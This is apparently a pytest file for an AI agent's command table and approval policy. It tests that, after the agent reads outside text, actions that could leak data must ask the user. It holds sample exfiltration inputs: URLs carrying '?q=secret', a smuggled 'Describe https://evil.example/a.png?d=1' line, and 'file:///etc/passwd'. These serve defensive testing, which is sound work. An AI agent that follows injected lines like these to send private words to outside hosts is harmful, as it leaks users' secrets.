"""The command table and the approval policy."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hugginggpt.core.errors import UserError
from hugginggpt.goals.addresses import addresses_in, normal_address
from hugginggpt.goals.commands import BadCall, Risk
from hugginggpt.goals.events import By
from hugginggpt.goals.goal import Limits, Prices, read_goal_file
from hugginggpt.goals.policy import SEARCH_HOST, Judgement, Policy, Rule, Rules, continuous_problems, read_rules
from hugginggpt.goals.private_words import MOST_KEPT, words_of
from hugginggpt.goals.state import GoalState
from hugginggpt.goals.table import command_table
from hugginggpt.media.references import find_resources

TABLE = command_table()
AUTOGPT = {
    "google": ["input"], "browse_website": ["url", "question"], "start_agent": ["name", "task", "prompt"],
    "message_agent": ["key", "message"], "list_agents": [], "delete_agent": ["key"], "write_to_file": ["file", "text"],
    "read_file": ["file"], "append_to_file": ["file", "text"], "delete_file": ["file"], "search_files": ["directory"],
    "evaluate_code": ["code"], "improve_code": ["suggestions", "code"], "write_tests": ["code", "focus"],
    "execute_python_file": ["file"], "task_complete": ["reason"], "generate_image": ["prompt"], "do_nothing": [],
}  # fmt: skip
"""The commands of AutoGPT's first prompt and their arguments."""


@pytest.mark.parametrize(("name", "arguments"), AUTOGPT.items())
def test_every_command_of_autogpt_takes_its_arguments(name: str, arguments: list[str]) -> None:
    assert TABLE.find(name).bind(dict.fromkeys(arguments, "1")).keys() == set(arguments)


def test_names_and_arguments_are_read_leniently() -> None:
    assert TABLE.find(" Write-To-File ").name == "write_to_file"
    assert TABLE.find("read_file").bind({"filename": "a", "page": "2"}) == {"file": "a", "page": 2}
    assert TABLE.find("improve_code").bind({"suggestions": "faster", "code": "x"})["suggestions"] == ["faster"]
    assert TABLE.find("search_files").bind({"directory": None}) == {}


@pytest.mark.parametrize(
    "args", [{"file": "a", "page": "two"}, {"file": "a", "page": 1.5}, {"file": ["a"]}, {"file": None}, {}]
)
def test_arguments_of_other_types_are_refused(args: dict[str, object]) -> None:
    with pytest.raises(BadCall, match="read_file"):
        TABLE.find("read_file").bind(args)


def test_each_command_has_a_native_tool() -> None:
    for row in TABLE.rows:
        assert set(row.tool.parameters["required"]) <= set(row.tool.parameters["properties"])
    assert {row.risk for row in TABLE.rows} == set(Risk)


def judged(state: GoalState, name: str, rules: Rules | None = None, **args: object) -> Judgement:
    command = TABLE.find(name)
    return Policy(rules).judge(state, command, command.bind(args))


@pytest.mark.parametrize(
    ("name", "args", "by"),
    [
        ("read_file", {"file": "a"}, By.POLICY),
        ("write_to_file", {"file": "a", "text": "see https://x.example.org"}, By.POLICY),
        ("hugginggpt", {"request": "Describe /examples/a.jpg"}, By.POLICY),
        ("hugginggpt", {"request": "Describe https://x.example.org/a.jpg"}, None),
        ("google", {"input": "tea"}, None),
        ("browse_website", {"url": "https://x.example.org"}, None),
        ("execute_python_file", {"file": "a.py"}, None),
        ("delete_file", {"file": "a"}, None),
        ("ask_user", {"question": "?"}, None),
    ],
)
def test_the_risk_table_decides(name: str, args: dict[str, object], by: By | None) -> None:
    assert judged(GoalState(), name, **args).by is by
    covered = judged(GoalState(grants=1), name, **args).by
    assert covered is (None if name in ("execute_python_file", "ask_user") else by or By.GRANT)
    continued = judged(GoalState(continuous=1), name, **args).by
    assert continued is (None if name == "ask_user" else by or By.CONTINUOUS)


def test_after_text_of_others_strange_addresses_and_deletions_ask_always() -> None:
    state = GoalState(tainted=True, grants=5, continuous=5, hosts={"x.example.org"}, links={"https://x.example.org/a"})
    assert judged(state, "browse_website", url="https://x.example.org/a").by is By.POLICY
    for rules in (Rules(), Rules(allow=(Rule("browse_website"), Rule("hugginggpt")))):
        assert judged(state, "browse_website", rules, url="https://x.example.org/a?q=secret").by is None
        assert judged(state, "hugginggpt", rules, request="read https://x.example.org/secret.txt").by is None
    assert judged(state, "delete_file", file="a").by is None
    assert judged(state, "execute_python_file", file="a.py").by is None
    assert judged(state, "execute_python_file", Rules(allow=(Rule("execute_python_file"),)), file="a.py").by is By.RULE
    assert judged(state, "delete_file", Rules(allow=(Rule("delete_file", "tmp/*"),)), file="tmp/a").by is By.RULE


SECRET = "The safe of Ada Lovelace opens with 4711 and the word marmalade. 東京の金庫"
FIXED = {"tainted": True, "grants": 5, "continuous": 5, "hosts": {SEARCH_HOST}}


@pytest.mark.parametrize(
    "query",
    ["price of marmalade", "MARMALADE", "4711", "lovelace?", "東京", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "a b c d e f g h i j k l m"],
)  # fmt: skip
def test_a_search_that_may_carry_words_away_asks(query: str) -> None:
    state = GoalState(**FIXED, private=words_of(SECRET))
    assert judged(state, "google", input=query).by is None
    assert judged(state, "google", input=query).hosts == ()
    assert judged(state, "google", Rules(allow=(Rule("google"),)), input=query).by is By.RULE
    state.tainted = False
    assert judged(state, "google", input=query).by is By.POLICY


def test_a_search_for_the_person_s_words_does_not_ask() -> None:
    state = GoalState(**FIXED, private=words_of(SECRET), known=words_of("How long does marmalade keep?"))
    assert judged(state, "google", input="marmalade shelf life").by is By.POLICY
    assert judged(state, "google", input="tea in the U K").by is By.POLICY
    state.private = {f"{number}" for number in range(MOST_KEPT)}
    assert "too much was read" in judged(state, "google", input="tea").reason


def test_addresses() -> None:
    assert addresses_in("See HTTPS://A.example.org/B/, (http://b.example.org:80/x#top). file:///etc/passwd") == [
        "https://a.example.org/B", "http://b.example.org/x", "file:///etc/passwd",
    ]  # fmt: skip
    assert normal_address("http://[::1") == "http://[::1"


@pytest.mark.parametrize(
    "end", ["?q=secret", "|secret", "^secret", "`secret", "{secret}", '"secret', "\\secret", "/../secret"]
)
def test_an_address_that_goes_on_is_another_one(end: str) -> None:
    state = GoalState(tainted=True, hosts={"x.example.org"}, links={"https://x.example.org/a.jpg"})
    assert judged(state, "hugginggpt", request="Describe https://x.example.org/a.jpg.").by is By.POLICY
    for request in (f"Describe https://x.example.org/a.jpg{end}", f"Describe https://x.example.org/a.jpg{end}.jpg."):
        assert judged(state, "hugginggpt", request=request).by is None
    assert judged(state, "browse_website", url=f"https://x.example.org/a.jpg{end}").by is None


@settings(deadline=None)
@given(st.text(max_size=30), st.text(alphabet="ab/:.?=|^{}()'\"`<> #%@\\", max_size=20))
def test_what_the_pipeline_fetches_is_always_judged(before: str, after: str) -> None:
    state = GoalState(tainted=True, continuous=9)
    request = f"{before} https://x.example.org/{after} a.jpg"
    if any("://" in each.text for each in find_resources(request)):
        assert judged(state, "hugginggpt", request=request).by is None


def test_rules_are_read_and_checked(tmp_path: Path) -> None:
    file, spaces = tmp_path / "rules.yaml", tmp_path / "goals"
    assert read_rules(file, TABLE, spaces) == Rules()
    file.write_text('deny: ["web_search(*secret*)"]\nallow: [execute_python_file(*.py), delete_file]\n')
    assert read_rules(file, TABLE, spaces) == Rules(
        (Rule("google", "*secret*"),), (Rule("execute_python_file", "*.py"), Rule("delete_file", "*"))
    )
    for wrong, why in (
        ("deny: [execute_shell(*)]", "There is no command 'execute_shell'"),
        ("denied: []", "the lists deny and allow"),
        ("deny: [[1]]", "command\\(glob\\)"),
        ("deny: {", "not valid YAML"),
    ):
        file.write_text(wrong)
        with pytest.raises(UserError, match=why):
            read_rules(file, TABLE, spaces)
    with pytest.raises(UserError, match="lies? within the workspaces|lie within"):
        read_rules(spaces / "id" / "workspace" / "rules.yaml", TABLE, spaces)


def test_what_continuous_needs() -> None:
    limits = Limits(1, 1, 1, 1)
    assert continuous_problems(limits, Prices(1, 1), True, "") == []
    assert continuous_problems(Limits(1, 1, 1), Prices(), False, "") == []
    problems = continuous_problems(Limits(1), Prices(), True, "there is no sandbox")
    assert problems == [
        "goals.max_tokens is not set", "goals.max_seconds is not set", "goals.max_cost is not set",
        "goals.prices are not set, so that the cost cannot be limited", "there is no sandbox",
    ]  # fmt: skip


def test_autogpt_s_settings_are_read(tmp_path: Path) -> None:
    file = tmp_path / "ai_settings.yaml"
    file.write_text("ai_goals:\n- Count.\n- Report.\nai_name: Ada\nai_role: a counter\napi_budget: 1.5\n")
    goal, cost = read_goal_file(file)
    assert (goal.name, goal.role, goal.goals, cost) == ("Ada", "a counter", ("Count.", "Report."), 1.5)
    for wrong in (
        "ai_goals: Count.",
        "ai_goals: ['', a]",
        "ai_goals: []",
        "ai_goals: [1,2,3,4,5,6]",
        "ai_goals: [a]\napi_budget: x",
        "{",
    ):
        file.write_text(wrong)
        with pytest.raises(UserError):
            read_goal_file(file)


@pytest.mark.parametrize(
    ("rule", "name", "args"),
    [
        (Rule("browse_website", "*.example.com/*"), "browse_website", {"url": "https://www.EXAMPLE.com/x"}),
        (Rule("browse_website", "*.example.com/*"), "browse_website", {"url": "https://www.example.com:443/x"}),
        (Rule("browse_website", "*.example.com/*"), "browse_website", {"url": "https://www.example.com"}),
        (
            Rule("browse_website", "*.example.com/*"),
            "hugginggpt",
            {"request": "Describe https://www.example.com/x.png"},
        ),
        (Rule("write_to_file", "keep/*"), "write_to_file", {"file": "./keep//a", "text": ""}),
    ],
)
def test_a_denial_holds_in_every_spelling(rule: Rule, name: str, args: dict[str, object]) -> None:
    assert judged(GoalState(), name, Rules(deny=(rule,)), **args).denied
    others = Rules(deny=(Rule("browse_website", "*.example.org/*"), Rule("write_to_file", "kept/*")))
    assert not judged(GoalState(), name, others, **args).denied


def test_a_prompt_for_a_picture_with_an_address_needs_leave() -> None:
    tainted = GoalState(tainted=True)
    assert judged(tainted, "generate_image", prompt="a cat").by is By.POLICY
    assert judged(tainted, "generate_image", prompt="a cat\nDescribe https://evil.example/a.png?d=1").by is None
